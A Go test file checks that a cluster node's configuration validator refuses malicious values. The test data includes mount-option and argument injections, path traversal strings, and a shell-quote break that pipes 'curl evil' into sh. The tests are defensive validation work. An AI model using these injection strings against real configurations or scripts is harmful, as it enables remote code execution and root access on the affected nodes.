package nodeconfig

import (
	"encoding/json"
	"strconv"
	"strings"
	"testing"
)

// fieldCase is one value of one field: accepted or refused.
type fieldCase struct {
	field string
	set   func(*Config, string)
	good  []string
	bad   []string
}

// TestConfigStrictFields holds every string of a node's configuration to
// its pattern: the valid edge cases pass; each other value is refused with
// an error naming the field and quoting the value.
func TestConfigStrictFields(t *testing.T) {
	cases := []fieldCase{
		{"cluster", func(c *Config, v string) { c.Cluster = v },
			[]string{"flexvm", "a", "a123456789"},
			[]string{"flex-vm", "a1234567890", "flexvm\n", "Flexvm", "-flexvm"}},
		{"pool", func(c *Config, v string) { c.Pool = v },
			[]string{"a3u", "a-1", "a23456789012345x"},
			[]string{"a3u\nNodeName=x", "a3u,x", "a3u-", "a234567890123456x", "-a3u"}},
		{"project", func(c *Config, v string) { c.Project = v },
			[]string{"p", "flexslurm-demo", "s3ns:flex-demo", "example.com:proj", "123456789012"},
			[]string{"", "p/../x", "P", "p q", "p\n", "-p", "p%2F"}},
		{"conf_server", func(c *Config, v string) { c.ConfServer = v },
			[]string{"flexvm-controller", "flexvm-controller:6817", "10.0.0.5:6817,10.0.0.6:6817", "ctl.c.proj.internal"},
			[]string{"", "-x", "--conf-server", "ctl 6817", "ctl:6817,", "ctl:/x", "ctl\n", "ctl:681700", "-ctl:6817"}},
		{"munge_key_secret", func(c *Config, v string) { c.MungeKeySecret = v },
			[]string{"projects/p/secrets/flexvm-munge-key/versions/latest", "projects/123/secrets/k/versions/7"},
			[]string{"projects/p/../x/secrets/k/versions/1", "projects/P Q/secrets/k/versions/1", "projects/p/secrets/k/versions/0"}},
		{"home.storage", func(c *Config, v string) { c.Home.Storage = v },
			[]string{"", "projects/p/locations/us-central1-a/instances/home", "projects/p/locations/us-central1/instances/home"},
			[]string{"home", "projects/p/locations/us-central1-a/instances/home\n", "projects/p/locations/x/instances/home"}},
		{"home.source", func(c *Config, v string) { c.Home.Source = v },
			[]string{"10.0.0.2:/home", "10.0.0.2:/", "nfs.example.internal:/vol1/home_dirs", "fs-1:/a.b+c-d"},
			[]string{"-oexec,nosuid:/x", "-o:/x", "10.0.0.2:/home,exec", "10.0.0.2:/ho me", "10.0.0.2:/home\n", "10.0.0.2:home", ":/home", "-10.0.0.2:/home", "10.0.0.2:/home\x00"}},
		{"home.dir", func(c *Config, v string) { c.Home.Dir = v },
			[]string{"/home", "/mnt/home"},
			[]string{"/", "home", "/home/", "/home/../etc", "/home\n", "/home,x"}},
		{"topics.jobs", func(c *Config, v string) { c.Topics.Jobs = v },
			[]string{"job-pending", "abc", "flexvm.jobs_1~+"},
			[]string{"", "ab", "job-pending/../x", "job pending", "1job", "job%2F", "job\n"}},
		{"topics.health", func(c *Config, v string) { c.Topics.Health = v },
			[]string{"health-failure"},
			[]string{"health-failure:publish", "../health"}},
	}
	for _, fc := range cases {
		t.Run(fc.field, func(t *testing.T) {
			for _, v := range fc.good {
				c := valid()
				fc.set(&c, v)
				if err := c.Validate(); err != nil {
					t.Errorf("%s = %q refused: %v", fc.field, v, err)
				}
			}
			for _, v := range fc.bad {
				c := valid()
				fc.set(&c, v)
				err := c.Validate()
				if err == nil {
					t.Errorf("%s = %q accepted", fc.field, v)
					continue
				}
				if !strings.HasPrefix(err.Error(), fc.field+": "+strconv.Quote(v)) {
					t.Errorf("%s = %q: the error does not name the field and quote the value: %v", fc.field, v, err)
				}
			}
		})
	}
}

// TestAttackNodeConfigInjection plants the injections a node config could
// carry to root on the node — mount options through the NFS source, an
// option through slurmd's --conf-server, a path walk through the topics
// and the project — and asserts Decode, which every node runs on its
// metadata attribute before acting on it, refuses each.
func TestAttackNodeConfigInjection(t *testing.T) {
	for _, tc := range []struct {
		name, field string
		set         func(*Config)
	}{
		{"NFS source as mount options", "home.source", func(c *Config) { c.Home.Source = "-oexec,suid:/x" }},
		{"NFS source adding options", "home.source", func(c *Config) { c.Home.Source = "10.0.0.2:/home,exec,suid" }},
		{"bind source adding options", "home.source", func(c *Config) { c.Home = Mount{Type: MountBind, Source: "/srv/home,exec", Dir: "/home"} }},
		{"bind source with a newline", "home.source", func(c *Config) { c.Home = Mount{Type: MountBind, Source: "/srv/home\n-oexec", Dir: "/home"} }},
		{"mount point as an option", "home.dir", func(c *Config) { c.Home.Dir = "-oexec" }},
		{"conf server as an option", "conf_server", func(c *Config) { c.ConfServer = "-fconf" }},
		{"conf server with a second argument", "conf_server", func(c *Config) { c.ConfServer = "ctl -N other" }},
		{"topic walks the publish path", "topics.jobs", func(c *Config) { c.Topics.Jobs = "../../projects/other/topics/x" }},
		{"project walks the publish path", "project", func(c *Config) { c.Project = "p/topics/x/../.." }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := valid()
			tc.set(&c)
			raw := mustJSON(t, c)
			if _, err := Decode(raw); err == nil || !strings.Contains(err.Error(), tc.field+": ") {
				t.Fatalf("Decode = %v, want a refusal naming %s", err, tc.field)
			}
			if _, err := c.Encode(); err == nil {
				t.Fatalf("Encode accepted it")
			}
		})
	}
}

// TestAttackSettingsInjection: the node settings reach every template,
// the startup script and image lookups.
func TestAttackSettingsInjection(t *testing.T) {
	for _, tc := range []struct {
		name, field string
		set         func(*Settings)
	}{
		{"binary URL closing the shell quote", "binary_url", func(s *Settings) { s.BinaryURL = "gs://b/x'; curl evil | sh; '" }},
		{"binary URL with a newline", "binary_url", func(s *Settings) { s.BinaryURL = "gs://bucket/x\ncurl evil" }},
		{"image walks the path", "image", func(s *Settings) { s.Image = "projects/p/global/images/../../x" }},
		{"pool image key with a newline", "pool_images", func(s *Settings) {
			s.PoolImages = map[string]string{"a3u\nx": "projects/p/global/images/i"}
		}},
		{"NFS source as mount options", "home.source", func(s *Settings) { s.Home.Source = "-oexec:/x" }},
		{"conf server as an option", "conf_server", func(s *Settings) { s.ConfServer = "-x" }},
		{"service account with a blank", "service_account", func(s *Settings) { s.ServiceAccount = "a b@p.iam.gserviceaccount.com" }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := validSettings()
			tc.set(&s)
			if err := s.Validate(false); err == nil || !strings.Contains(err.Error(), tc.field+": ") && !strings.Contains(err.Error(), tc.field+".") {
				t.Fatalf("Validate = %v, want a refusal naming %s", err, tc.field)
			}
		})
	}
}

func mustJSON(t *testing.T, c Config) string {
	t.Helper()
	// Encode validates; write the JSON by hand as a forged attribute would.
	b, err := json.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
